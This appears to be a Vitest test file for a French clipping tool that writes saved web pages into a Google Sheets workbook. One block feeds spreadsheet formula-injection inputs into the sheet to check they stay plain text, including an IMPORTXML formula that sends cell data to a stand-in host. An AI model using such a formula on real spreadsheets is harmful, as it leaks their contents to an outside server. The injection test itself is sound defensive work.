import { randomUUID } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Receipt } from '../../shared/protocol/messages.ts';
import { aClip, buildBundle, openVigie, type Vigie } from './opened-vigie.ts';

let bundle: Awaited<ReturnType<typeof buildBundle>>;
let vigie: Vigie;
let marie: string;
beforeAll(async () => {
  bundle = await buildBundle();
});
afterAll(() => bundle.remove());
beforeEach(async () => {
  vigie = await openVigie(bundle.folder);
  marie = (await vigie.pairedMember('Marie')).token;
});
afterEach(() => vigie.close());

describe('clips.save', () => {
  test('a clip is a row: what, where, access and its proof, who, when', async () => {
    const clip = aClip({
      title: 'Le prêt numérique',
      url: 'https://exemple.fr/pret',
      note: 'à proposer',
      themes: ['presse', 'langues'],
    });
    const [receipt] = await vigie.saveClips(marie, clip);
    expect(receipt).toMatchObject({ id: clip.id, outcome: 'created', row: 2 });
    expect(receipt?.link).toMatch(/#gid=\d+&range=A2$/);
    expect(vigie.rows('Ressources')).toMatchObject([
      {
        Titre: 'Le prêt numérique',
        Adresse: 'https://exemple.fr/pret',
        Éditeur: 'Éditeur d’exemple',
        'Publié le': '05/03/2024',
        Accès: 'Payant',
        'Preuve de l’accès': expect.stringContaining('isAccessibleForFree: false'),
        Thèmes: 'presse, langues',
        Note: 'à proposer',
        'Relevé par': 'Marie',
        'Relevé le': '24/11/2026 09:59',
        Statut: 'à trier',
        Identifiant: receipt?.rowId,
      },
    ]);
    expect(vigie.rows('Sources')).toMatchObject([{ Source: 'Éditeur d’exemple', Site: 'exemple.fr' }]);
  });

  test('what the person chose wins, and the row says so', async () => {
    const clip = aClip({ title: 'Lu' });
    clip.chosen = { ...clip.chosen, title: 'Choisi', access: 'free', published: '' };
    await vigie.saveClips(marie, clip);
    const [row] = vigie.rows('Ressources');
    expect(row).toMatchObject({ Titre: 'Choisi', Accès: 'Gratuit', 'Publié le': '' });
    expect(row?.['Preuve de l’accès']).toMatch(/^Choisi par Marie le 24\/11\/2026\nLecture : Payant/);
  });

  test('the same id again: the same receipt, one row', async () => {
    const clip = aClip();
    const [first] = await vigie.saveClips(marie, clip);
    await vigie.saveClips(marie, aClip());
    const [again] = await vigie.saveClips(marie, clip);
    expect(again).toEqual(first);
    const [twice, both] = await vigie.saveClips(marie, clip, clip);
    expect([twice, both]).toEqual([first, first]);
    expect(vigie.rows('Ressources')).toHaveLength(2);
    expect(vigie.rows('Avis')).toHaveLength(0);
  });

  test('a known address becomes an opinion, in another batch or in the same one', async () => {
    const first = aClip({ url: 'https://www.exemple.fr/a/', note: 'trop cher', title: 'A' });
    const [created] = await vigie.saveClips(marie, first);
    const luc = (await vigie.pairedMember('Luc')).token;
    const second = aClip({ url: 'http://exemple.fr/a', note: 'pas si cher' });
    const other = aClip({ url: 'https://exemple.fr/b', title: 'B', note: 'un' });
    const twin = aClip({ url: 'https://exemple.fr/b#haut', note: 'deux' });
    const receipts = await vigie.saveClips(luc, second, other, twin);
    expect(receipts.map(({ outcome }) => outcome)).toEqual(['known', 'created', 'known']);
    expect(receipts[0]).toMatchObject({
      rowId: created?.rowId,
      row: 2,
      known: { by: 'Marie', at: '2026-11-24', opinion: 'trop cher' },
    });
    expect(receipts[2]).toMatchObject({ rowId: receipts[1]?.rowId, row: 3, known: { by: 'Luc', opinion: 'un' } });
    expect(vigie.rows('Ressources')).toHaveLength(2);
    expect(vigie.rows('Avis')).toMatchObject([
      { Ressource: 'A', Avis: 'pas si cher', 'Donné par': 'Luc', 'Identifiant de la ressource': created?.rowId },
      { Ressource: 'B', Avis: 'deux', 'Donné par': 'Luc' },
    ]);
    expect(await vigie.saveClips(luc, second)).toEqual([receipts[0]]);
  });

  test('what is told of a known resource is what the row says now', async () => {
    await vigie.saveClips(marie, aClip({ url: 'https://exemple.fr/a', note: 'trop cher' }));
    await vigie.run('peopleType', ['Ressources', 2, 'Note', 'tarif négocié']);
    const [receipt] = await vigie.saveClips(marie, aClip({ url: 'https://exemple.fr/a' }));
    expect(receipt?.known?.opinion).toBe('tarif négocié');
  });

  test('a row that was deleted meanwhile: late repeats say so and add nothing, a new clip makes a new row', async () => {
    const clip = aClip({ url: 'https://exemple.fr/a' });
    await vigie.saveClips(marie, clip, aClip());
    await vigie.run('peopleDeleteRow', ['Ressources', 2]);
    const [late] = await vigie.saveClips(marie, clip);
    expect(late).toMatchObject({
      outcome: 'created',
      message: expect.stringMatching(/supprimée.*Relevez la page à nouveau/),
    });
    expect(vigie.rows('Ressources')).toHaveLength(1);
    const [fresh] = await vigie.saveClips(marie, aClip({ url: 'https://exemple.fr/a' }));
    expect(fresh?.outcome).toBe('created');
    expect(vigie.rows('Ressources')).toHaveLength(2);
  });

  test('a feed that the page offers is proposed in Flux, once, and not polled', async () => {
    const clip = aClip();
    const feeds = [{ url: 'https://exemple.fr/feed', title: '=1+1', format: 'rss' as const }];
    clip.reading.feeds = { value: feeds, confidence: 1, evidence: [] };
    const twin = { ...aClip(), reading: { ...aClip().reading, feeds: clip.reading.feeds } };
    await vigie.saveClips(marie, clip, twin);
    expect(vigie.rows('Flux')).toMatchObject([{ Flux: '=1+1', Adresse: 'https://exemple.fr/feed', État: 'proposé' }]);
    const report = await vigie.run<{ feeds: number }>('pollFeedsNow');
    expect(report.feeds).toBe(0);
  });
});

describe('people edit the workbook', () => {
  test('renamed headers, an inserted column, a moved tab: everything still lands in its place', async () => {
    await vigie.run('peopleRenameHeader', ['Ressources', 'Titre', 'Quoi']);
    await vigie.run('peopleInsertColumn', ['Ressources', 'Accès', 'À nous']);
    await vigie.run('peopleRenameTab', ['Ressources', 'Nos REL']);
    const clip = aClip({ title: 'A', url: 'https://exemple.fr/a' });
    await vigie.saveClips(marie, clip);
    await vigie.run('peopleType', ['Nos REL', 2, 'À nous', 'notre mot']);
    await vigie.saveClips(marie, aClip({ title: 'B' }), clip);
    expect(vigie.rows('Nos REL')).toMatchObject([
      { Quoi: 'A', Accès: 'Payant', 'À nous': 'notre mot' },
      { Quoi: 'B', Accès: 'Payant', 'À nous': '' },
    ]);
  });

  test('a deleted column is left out of what is written; the rest is kept', async () => {
    await vigie.run('peopleDeleteColumn', ['Ressources', 'Éditeur']);
    const [receipt] = await vigie.saveClips(marie, aClip({ title: 'A' }));
    expect(receipt?.outcome).toBe('created');
    expect(vigie.rows('Ressources')[0]).not.toHaveProperty('Éditeur');
    expect(vigie.rows('Ressources')[0]).toMatchObject({ Titre: 'A', Accès: 'Payant' });
  });

  test('a line typed below by hand is never overwritten', async () => {
    await vigie.run('peopleAppend', ['Ressources', { Titre: 'à la main' }]);
    await vigie.saveClips(marie, aClip({ title: 'B' }));
    expect(vigie.rows('Ressources').map((row) => row.Titre)).toEqual(['à la main', 'B']);
  });

  test('a deleted tab is said, and the clip can be sent again once it is back', async () => {
    const clip = aClip();
    await vigie.run('peopleDeleteTab', ['Avis']);
    const { reply } = await vigie.post(vigie.envelope('clips.save', { clips: [clip] }, marie));
    expect(reply).toMatchObject({ ok: false, code: 'not-installed' });
    expect(reply.message).toContain('Avis');
    await vigie.run('install');
    const [receipt] = await vigie.saveClips(marie, clip);
    expect(receipt?.outcome).toBe('created');
    expect(vigie.rows('Ressources')).toHaveLength(1);
  });

  test('a tab that only goes with the clips, deleted, does not keep them from being saved', async () => {
    await vigie.run('peopleDeleteTab', ['Sources']);
    const [receipt] = await vigie.saveClips(marie, aClip());
    expect(receipt?.outcome).toBe('created');
    expect(vigie.rows('Accusés')).toHaveLength(1);
  });
});

describe('an execution that is cut', () => {
  const CUTS = ['Range.setValues', 'Range.getValues', 'Sheet.getLastRow', 'flush'].flatMap((method) =>
    [1, 2, 3, 4, 5].flatMap((when) => (['before', 'after'] as const).map((at) => [method, when, at] as const)),
  );

  test('anywhere, then tried again: one row, one opinion, one receipt for each clip', async () => {
    let cut = 0;
    for (const [index, [method, when, at]] of CUTS.entries()) {
      const url = `https://exemple.fr/cut/${index}`;
      const batch = [aClip({ url, note: 'un' }), aClip({ url, note: 'deux' })];
      vigie.host.faults.add({ service: 'SpreadsheetApp', method, when, at, do: 'kill' });
      const answer = await vigie.host.web({
        method: 'POST',
        query: '',
        body: JSON.stringify(vigie.envelope('clips.save', { clips: batch }, marie)),
        contentType: 'text/plain',
      });
      vigie.host.faults.clear();
      if (answer.kind === 'error') cut += 1;
      const receipts = await vigie.saveClips(marie, ...batch);
      expect(
        receipts.map(({ outcome }) => outcome),
        `${method} ${when} ${at}`,
      ).toEqual(['created', 'known']);
      for (const [tab, count] of [
        ['Ressources', 1],
        ['Avis', 1],
      ] as const) {
        expect(
          vigie.rows(tab).filter((row) => row.Adresse === url),
          `${tab}, ${method} ${when} ${at}`,
        ).toHaveLength(count);
      }
      for (const { id } of batch) {
        expect(
          vigie.rows('Accusés').filter((row) => row.Relevé === id),
          `${method} ${when} ${at}`,
        ).toHaveLength(1);
      }
    }
    expect(cut).toBeGreaterThanOrEqual(18);
  }, 120_000);
});

describe('text stays text', () => {
  const HOSTILE = '=IMPORTXML("https://x.test/?"&A1)';
  test.each([
    HOSTILE,
    '+33 1 02 03',
    '-1',
    '@SUM(A1)',
    '001',
    '12/03/2024',
    'VRAI',
    "'ouvert'",
    '\t=1+1',
    '\u200b=1+1',
  ])('%j', async (text) => {
    const clip = aClip({ title: text.trim() === '' ? HOSTILE : text, note: text, themes: [text.slice(0, 60)] });
    clip.reading.publisher = { value: text, confidence: 1, evidence: [] };
    clip.source.facts = [{ block: 'publisher', key: 'publisher-name', state: 'found', value: text, evidence: [] }];
    await vigie.saveClips(marie, clip, aClip({ url: clip.reading.canonicalUrl.value, note: text }));
    for (const tab of ['Ressources', 'Avis', 'Sources', 'Accusés', 'Journal']) {
      const { formulas, values } = vigie.host.workbook.read(tab);
      expect(
        formulas.flat().filter((formula) => formula !== ''),
        tab,
      ).toEqual([]);
      for (const value of values.flat()) expect(String(value), tab).not.toMatch(/^#(?:ERROR|NAME|REF)/);
    }
    const [row] = vigie.rows('Ressources');
    expect(row?.Note).toBe(text);
    expect(row?.Éditeur).toBe(text);
  });
});

describe('many at once', () => {
  test('fifty clips of fifty clients that retry as the outbox does give fifty rows', async () => {
    const clips = Array.from({ length: 50 }, (_, index) => aClip({ title: `Ressource ${index}` }));
    const receipts = await Promise.all(clips.map((clip) => deliver(clip)));
    expect(receipts.every((receipt) => receipt.outcome === 'created')).toBe(true);
    expect(new Set(receipts.map(({ rowId }) => rowId)).size).toBe(50);
    const rows = vigie.rows('Ressources');
    expect(rows).toHaveLength(50);
    expect(new Set(rows.map((row) => row.Titre)).size).toBe(50);
    expect(vigie.rows('Accusés')).toHaveLength(50);
    expect(vigie.rows('Avis')).toHaveLength(0);
  });

  async function deliver(clip: object): Promise<Receipt> {
    for (let turn = 0; turn < 40; turn += 1) {
      const answer = await vigie.host.web({
        method: 'POST',
        query: '',
        body: JSON.stringify(vigie.envelope('clips.save', { clips: [clip] }, marie)),
        contentType: 'text/plain;charset=utf-8',
      });
      // An error page of Google (« too many scripts ») is a failure like another: same id, later.
      const reply = answer.kind === 'text' ? JSON.parse(answer.text) : { ok: false, retry: true };
      if (reply.ok) return reply.receipts[0];
      if (!reply.retry) throw new Error(reply.message);
      await new Promise((resolve) => setTimeout(resolve, 100 * (turn + 1)));
    }
    throw new Error('no receipt after 40 tries');
  }
});

describe('calls', () => {
  /** Calls that read or change the document, by method. */
  const documentCalls = (calls: Readonly<Record<string, number>>) =>
    Object.fromEntries(Object.entries(calls).filter(([name]) => name.startsWith('SpreadsheetApp.')));
  const sum = (calls: Record<string, number>): number =>
    Object.values(calls).reduce((total, count) => total + count, 0);

  test('as many for fifty clips as for one, with two hundred rows as with none; within the budget', async () => {
    const send = async (clips: object[]) => {
      const { reply, run } = await vigie.post(vigie.envelope('clips.save', { clips }, marie));
      expect(reply.ok).toBe(true);
      return documentCalls(run.calls);
    };
    const batch = (size: number) =>
      Array.from({ length: size }, () => aClip({ url: `https://exemple.fr/${randomUUID()}` }));
    await send(batch(1));
    const one = await send(batch(1));
    const fifty = await send(batch(50));
    expect(fifty).toEqual(one);
    for (let turn = 0; turn < 3; turn += 1) await send(batch(50));
    expect(await send(batch(1))).toEqual(one);
    expect(sum(one), JSON.stringify(one)).toBeLessThanOrEqual(BUDGET.fresh);

    const known = batch(50);
    await send(known);
    const again = known.map((clip) => ({ ...clip, id: randomUUID() }));
    const mixed = await send([...again.slice(0, 25), ...batch(25)]);
    const mixedTwo = await send([...again.slice(25, 26), ...batch(1)]);
    expect(mixed).toEqual(mixedTwo);
    expect(sum(mixed), JSON.stringify(mixed)).toBeLessThanOrEqual(BUDGET.mixed);
  }, 120_000);

  test('no fetch, no mail and no sleep while the lock is held', async () => {
    expect(vigie.host.rules.forbidUnderLock).toBe(true);
    const { run } = await vigie.post(vigie.envelope('clips.save', { clips: [aClip()] }, marie));
    expect(Object.keys(run.calls).filter((name) => /UrlFetchApp|MailApp|sleep/.test(name))).toEqual([]);
  });
});

/** Measured, and only ever lowered. Issue « never lose a clip » asks for 12. */
const BUDGET = { fresh: 9, mixed: 12 };
